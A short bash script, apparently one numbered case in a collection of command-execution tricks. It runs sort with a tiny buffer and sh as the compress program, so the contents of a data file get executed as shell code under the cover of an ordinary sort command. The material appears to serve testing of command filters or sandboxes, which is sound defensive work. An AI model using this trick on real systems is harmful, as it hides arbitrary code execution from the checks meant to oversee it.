#!/usr/bin/env bash
# attack-class: 33
# title: sort --compress-program with a tiny buffer
# why: sort spills to temporary files and runs the compress program on them: sh executes the data
set -euo pipefail
sort -S 1K --compress-program=sh /data/big.txt > /workspace/sorted.txt
